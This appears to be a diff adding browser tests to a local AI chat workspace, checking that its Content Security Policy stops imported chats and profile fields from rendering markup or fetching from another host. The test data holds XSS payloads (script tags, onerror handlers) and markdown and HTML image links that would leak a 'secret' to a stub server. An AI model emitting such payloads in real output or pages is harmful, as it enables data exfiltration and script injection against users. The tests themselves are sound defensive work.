@@ -115,3 +115,87 @@ def wait_for_stable_answer(page, quiet_ms: int = 2_500, timeout_s: float = 120) 
             return current
         page.wait_for_timeout(200)
     raise AssertionError("the answer never settled")
+
+
+@pytest.fixture
+def stub_counter():
+    """An HTTP server on another loopback port counting every request: 'somewhere else' for the page."""
+    import http.server
+    import threading
+
+    hits: list[str] = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            hits.append(self.path)
+            self.send_response(200)
+            self.send_header("Content-Type", "image/png")
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.end_headers()
+
+        def log_message(self, *args):
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_address[1]}", hits
+    server.shutdown()
+    server.server_close()
+
+
+def test_nothing_in_a_chat_makes_the_page_fetch_from_elsewhere(running_app, page, stub_counter):
+    import httpx
+
+    url, _ = running_app
+    elsewhere, hits = stub_counter
+    profile = httpx.get(url + "/api/profiles").json()[0]
+    content = (f"Leak ![x]({elsewhere}/md?d=secret) and <img src=\"{elsewhere}/html?d=secret\"> "
+               "<img src=x onerror=\"alert('xss')\"> <script>alert('xss')</script> end-of-answer")
+    export = {"kind": "local-ai-workspace.chat", "schema_version": 1,
+              "chat": {"title": "<b onmouseover=alert(1)>Img"},
+              "messages": [{"role": "user", "content": "show me", "created_at": 1.0, "updated_at": 1.0},
+                           {"role": "assistant", "content": content, "created_at": 2.0, "updated_at": 2.0}]}
+    imported = httpx.post(url + f"/api/profiles/{profile['id']}/import", json=export)
+    assert imported.status_code == 201
+    hostile = httpx.post(url + "/api/profiles", json={"name": "<img src=x onerror=alert('p')>Prof",
+                                                      "description": "<script>alert('d')</script>"})
+    assert hostile.status_code == 201
+    dialogs: list[str] = []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    violations: list[str] = []
+    page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
+    page.reload()
+    page.wait_for_selector("#message-box textarea")
+    page.locator("#chat-list label", has_text="Img").first.click()
+    page.wait_for_function("() => document.querySelector('#conversation').innerText.includes('end-of-answer')")
+    # Script can still try on its own: both ways out are closed by the policy too.
+    page.evaluate("""(u) => { const i = new Image(); i.src = u + '/script-img'; document.body.appendChild(i);
+                              return fetch(u + '/script-fetch').then(() => 'sent', () => 'blocked'); }""", elsewhere)
+    page.wait_for_function("() => document.readyState === 'complete'")
+    assert len(violations) >= 2, violations  # the page tried, and the policy stopped it
+    page.get_by_role("combobox", name="Profile").first.click()
+    page.get_by_role("option", name="<img src=x onerror=alert('p')>Prof").click()  # shown as text, not markup
+    page.wait_for_function("() => document.readyState === 'complete'")
+    assert hits == [] and dialogs == []
+    httpx.delete(url + f"/api/chats/{imported.json()['id']}")
+    httpx.delete(url + f"/api/profiles/{hostile.json()['id']}")
+
+
+def test_lan_login_page_then_logout_in_a_real_browser(lan_app):
+    """LAN mode: the login form works under the page's security policy, and Log out ends the session."""
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, headless=True, args=FLAGS)
+        page = browser.new_page()
+        page.set_default_timeout(60_000)
+        page.goto(lan_app.url + "/")
+        page.locator("input[type=password]").wait_for()
+        page.locator("input:not([type=password])").first.fill("workspace")
+        page.locator("input[type=password]").fill(lan_app.password)
+        page.get_by_role("button", name="Login").click()
+        page.wait_for_selector("#message-box textarea")
+        page.locator("#logout").click()
+        page.locator("input[type=password]").wait_for()
+        assert page.context.request.get(lan_app.url + "/config").status == 401
+        browser.close()
